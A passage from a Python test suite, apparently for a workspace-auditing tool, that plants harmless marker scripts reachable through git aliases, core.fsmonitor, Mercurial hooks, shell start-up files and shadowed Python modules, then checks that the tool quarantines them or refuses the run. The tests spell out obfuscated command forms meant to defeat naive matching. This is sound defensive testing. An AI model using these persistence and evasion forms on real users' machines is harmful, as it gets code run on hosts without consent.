        config.unlink()
    as_user, as_root = json.loads(got.stdout)
    assert as_user == "read", got
    assert "s3cr3t" in as_root, got  # the control: with root's rights it is read, quoted


def test_every_form_of_a_commands_path_is_protected_or_refused(who: Identity) -> None:
    """Review 32: the words of a command git runs were matched as text, so a script it runs
    went unprotected when written ``$HOME/x``, ``sh "${HOME}/x"`` or ``F=~/x && sh $F``;
    a command that ``cd``s into a folder of the workspace may run any file there; git runs
    ``gpg.ssh.defaultKeyCommand``, which was not a known command key; and
    ``~/.bashrc.d/*`` (sourced by Fedora's ``.bashrc``) was deeper than the home links
    looked.  The forms are protected now, the folder refuses the run (exit 125 for the
    CLI) and the start-up file is compared.  Control: before the audit host git and sh run
    every plant."""
    r = as_identity(who, f"""
        from corral.errors import UsageError
        base = {str(who.tmp)!r}
        top, q, marks = workspace(base)
        home = os.path.join(base, "home"); os.mkdir(home)
        other = os.path.join(base, "other"); git(base, "init", "-q", "other")
        gc = os.path.join(base, "gc")
        def at(rel):
            return os.path.join(top, rel)
        for name in ("a", "b", "c", "d", "k"):
            write(at("bin/" + name), "exit 0\\n")
        os.makedirs(os.path.join(home, ".bashrc.d"))
        write(at("rc.sh"), "true\\n", 0o644)
        os.symlink(at("rc.sh"), os.path.join(home, ".bashrc.d/rc.sh"))
        os.environ.update(GIT_CONFIG_GLOBAL=gc, HOME=home)
        os.symlink(top, os.path.join(home, "dots"))  # the workspace seen from the home
        write(gc, "[alias]\\n"
                  "\\ta = !$HOME/dots/bin/a\\n"
                  "\\tb = !sh \\"${{HOME}}/dots/bin/b\\"\\n"
                  "\\tc = !F=~/dots/bin/c && sh $F\\n"
                  f"[gpg \\"ssh\\"]\\n\\tdefaultKeyCommand = {{at('bin/k')}}\\n", 0o644)
        try:
            census = audit.census_of_tree(top, None, audit.protected_names())
        except UsageError as e:
            print(json.dumps({{"refused": str(e)}})); raise SystemExit
        named = sorted(os.path.relpath(p, top) for p in census.named)
        later()
        for name in ("a", "b", "c"):
            write(at("bin/" + name), f"touch {{marks}}/{{name}}\\n")
        with open(at("rc.sh"), "a") as f:
            f.write(f"touch {{marks}}/bashrc.d\\n")
        def host():
            for name in ("a", "b", "c"):
                subprocess.run(["git", "-c", "safe.directory=*", name], cwd=other,
                               capture_output=True)
            subprocess.run(["sh", "-c", "for f in ~/.bashrc.d/*; do . $f; done"],
                           capture_output=True)
            return taken(marks)
        before = host()
        actions = audit.Auditor(census, lambda: q).run()
        after = host()
        # And a command that goes into a folder of the workspace: refused.
        with open(gc, "a") as f:
            f.write("[core]\\n\\tfsmonitor = cd ~/dots && sh d\\n")
        try:
            audit.census_of_tree(top, None, audit.protected_names())
            refused = ""
        except UsageError as e:
            refused = str(e)
        print(json.dumps({{"before": before, "after": after, "named": named,
                          "refused": refused,
                          "did": sorted((os.path.relpath(a.path, top), a.did)
                                        for a in actions if a.did == "quarantined")}}))
    """)
    assert r["before"] == ["a", "b", "bashrc.d", "c"], r  # the control: all run
    assert r["after"] == [], r
    assert r["named"] == ["bin/a", "bin/b", "bin/c", "bin/k", "rc.sh"], r
    assert r["did"] == [["bin/a", "quarantined"], ["bin/b", "quarantined"],
                        ["bin/c", "quarantined"], ["rc.sh", "quarantined"]], r
    assert "is a folder a command goes into or runs code from, in git's core.fsmonitor" \
        in r["refused"], r


def test_a_command_is_read_as_the_shell_reads_it(who: Identity) -> None:
    """Review 33: words were matched as text, so the script git's command runs went
    unprotected when written ``sh f''sm``, ``sh fs\\m``, ``cd ~ && sh dots/fsm``, or bare
    (``sh fsm.sh``, relative to the repository's top); one missing at launch was never
    looked at.  Each is read as ``sh`` reads it now: what it names is compared, what is
    made there during the run is a plant, and a glob refuses the run.  Control: before
    the audit host git runs every plant."""
    r = as_identity(who, f"""
        from corral.errors import UsageError
        base = {str(who.tmp)!r}
        top, q, marks = workspace(base)
        home = os.path.join(base, "home"); os.mkdir(home)
        os.symlink(os.path.join(top, "dots"), os.path.join(home, "dots"))
        os.environ.update(GIT_CONFIG_GLOBAL=os.path.join(base, "gc"), HOME=home)
        forms = {{"concat": ("sh f''sm", "fsm"), "bslash": ("sh fs\\\\\\\\m", "fsm"),
                  "bare": ("sh fsm.sh", "fsm.sh"), "cd": ("cd ~ && sh dots/fsm", "../dots/fsm"),
                  "late": ("sh late.sh", None),
                  # review 34: a backslash-newline, a PATH the command sets, env -S
                  "bsnl": ("sh fs\\\\\\\\\\\\nm.sh", "fsm.sh"),
                  "path": ("PATH=.:/usr/bin:/bin fsm.sh", "fsm.sh"),
                  "envs": ("env -S 'sh fsm.sh'", "fsm.sh")}}
        for name, (command, script) in forms.items():
            git(top, "init", "-q", name)
            with open(os.path.join(top, name, ".git/config"), "a") as f:
                f.write(f"[core]\\n\\tfsmonitor = {{command}}\\n")
            if script:
                write(os.path.join(top, name, script), "exit 1\\n")
        census = audit.census_of_tree(top, None, audit.protected_names())
        later()
        for name, (command, script) in forms.items():
            write(os.path.join(top, name, script or "late.sh"),
                  f"touch {{marks}}/{{name}}; exit 1\\n")
        def host():
            for name in forms:
                subprocess.run(["git", "-c", "safe.directory=*", "status"],
                               cwd=os.path.join(top, name), capture_output=True)
            return taken(marks)
        before = host()
        actions = audit.Auditor(census, lambda: q).run()
        after = host()
        refused = []  # each alone: a glob, parameters the command sets, a python script
        for name, command in (("glob", "sh fs?"), ("own", "sh -c 'sh \\"$0$1\\"' fs m.sh"),
                              ("py", "python3 fsm.py")):
            git(top, "init", "-q", name)
            write(os.path.join(top, name, "fsm.py"), "")
            with open(os.path.join(top, name, ".git/config"), "a") as f:
                f.write(f"[core]\\n\\tfsmonitor = {{command}}\\n")
            try:
                audit.census_of_tree(top, None, audit.protected_names())
                refused.append("")
            except UsageError as e:
                refused.append(str(e))
            subprocess.run(["rm", "-rf", os.path.join(top, name)], check=True)
        print(json.dumps({{"before": before, "after": after, "refused": refused,
                          "did": sorted(os.path.relpath(a.path, top) for a in actions
                                        if a.did == "quarantined")}}))
    """)
    assert r["before"] == ["bare", "bslash", "bsnl", "cd", "concat", "envs", "late",
                           "path"], r  # the control
    assert r["after"] == [], r
    assert r["did"] == ["bare/fsm.sh", "bslash/fsm", "bsnl/fsm.sh", "concat/fsm", "dots/fsm",
                        "envs/fsm.sh", "late/late.sh", "path/fsm.sh"], r
    glob, own, py = r["refused"]
    assert "holds a pattern the shell expands (?)" in glob, r
    assert "holds the variable $0, which the command sets" in own, r
    assert "imports from the script's folder" in py, r


def test_what_an_hg_config_names_is_audited_as_gits_is(who: Identity) -> None:
    """Review 30 (f3), review 36 and the class of reviews 31 to 35: Mercurial runs its
    hooks on ``hg status``; what its repository config names (``sh fsm.sh``, relative to
    the repository's root), what it ``%include``s from the workspace and a hook that file
    adds, a ``python:PATH:func`` hook's package, and what a global hook names in a
    repository without an hgrc of its own were not followed, and host hg ran what the run
    wrote.  Control: before the audit host hg runs every plant."""
    r = as_identity(who, f"""
        base = {str(who.tmp)!r}
        top, q, marks = workspace(base)
        glob = os.path.join(base, "g.rc")
        write(glob, "[hooks]\\npre-status.g = sh tools/lint.sh\\n", 0o644)
        os.environ.update(HOME=base, HGRCPATH=glob)  # the user's global hg config
        repo, bare = os.path.join(top, "r"), os.path.join(top, "n")
        for d in (repo, bare):
            assert hg(top, "init", d).returncode == 0
            write(os.path.join(d, "tools/lint.sh"), "true\\n", 0o644)
        write(os.path.join(repo, ".hg/hgrc"), "%include ../../tools/hg.rc\\n"
              "[hooks]\\npre-status.a = sh fsm.sh\\n"
              "pre-status.c = python:hghooks:check\\n", 0o644)
        write(os.path.join(top, "tools/hg.rc"), "[ui]\\nusername = t\\n", 0o644)
        write(os.path.join(repo, "fsm.sh"), "true\\n", 0o644)
        write(os.path.join(repo, "hghooks/__init__.py"), "def check(**k):\\n    return 0\\n",
              0o644)
        census = audit.census_of_tree(top, None, audit.protected_names())
        later()
        write(os.path.join(repo, "fsm.sh"), f"touch {{marks}}/fsm\\n", 0o644)
        with open(os.path.join(top, "tools/hg.rc"), "a") as f:
            f.write(f"[hooks]\\npre-status.b = touch {{marks}}/include\\n")
        write(os.path.join(repo, "hghooks/__init__.py"),
              f"def check(**k):\\n    open('{{marks}}/python', 'w')\\n    return 0\\n", 0o644)
        write(os.path.join(bare, "tools/lint.sh"), f"touch {{marks}}/global\\n", 0o644)
        def host():
            for d in (repo, bare):
                subprocess.run(["hg", "--config", "ui.username=t", "status"], cwd=d,
                               capture_output=True, env=dict(os.environ, HGRCPATH=glob))
            return taken(marks)
        before = host()
        actions = audit.Auditor(census, lambda: q).run()
        after = host()
        print(json.dumps({{"before": before, "after": after,
                          "did": sorted(os.path.relpath(a.path, top) for a in actions
                                        if a.did == "quarantined")}}))
    """)
    assert r["before"] == ["fsm", "global", "include", "python"], r  # the control
    assert r["after"] == [], r
    # (and hg's own __pycache__ of the control's run, made during the run too)
    assert [d for d in r["did"] if "__pycache__" not in d] == [
        "n/tools/lint.sh", "r/fsm.sh", "r/hghooks/__init__.py", "tools/hg.rc"], r


def test_a_module_a_hook_runs_with_python_m_is_audited(who: Identity) -> None:
    """Review 37: pre-commit's hook runs ``python -mpre_commit`` from the work tree's
    top, where ``-m`` looks first: a ``pre_commit`` package planted there ran at the
    user's next commit; review 38: ``-Bm`` too, and every module the run imports
    (``argparse`` for ``-m json.tool``).  What a hook may import that way is watched now
    (and read-only where it is).  Control: before the audit host git's commit runs both
    plants."""
    r = as_identity(who, f"""
        base = {str(who.tmp)!r}
        top, q, marks = workspace(base)
        os.environ.update(HOME=base, GIT_CONFIG_GLOBAL=os.path.join(base, "gc"))
        git(top, "init", "-q")
        write(os.path.join(top, ".git/hooks/pre-commit"),
              f"#!/bin/sh\\nexec {{sys.executable}} -Bmpre_commit\\n")
        write(os.path.join(top, ".git/hooks/post-commit"),
              f"#!/bin/sh\\n{{sys.executable}} -m json.tool --help >/dev/null\\n")
        census = audit.census_of_tree(top, None, audit.protected_names())
        later()
        write(os.path.join(top, "pre_commit/__main__.py"),
              f"open('{{marks}}/pre_commit', 'w')\\n", 0o644)
        write(os.path.join(top, "argparse.py"), f"open('{{marks}}/argparse', 'w')\\n", 0o644)
        def host():
            subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", "commit",
                            "-q", "--allow-empty", "-m", "x"], cwd=top, capture_output=True)
            return taken(marks)
        before = host()
        actions = audit.Auditor(census, lambda: q).run()
        after = host()
        print(json.dumps({{"before": before, "after": after,
                          "did": sorted(os.path.relpath(a.path, top) for a in actions
                                        if a.did == "quarantined")}}))
    """)
    assert r["before"] == ["argparse", "pre_commit"], r  # the control: the commit ran both
    assert r["after"] == [], r
    assert r["did"] == ["argparse.py", "pre_commit"], r
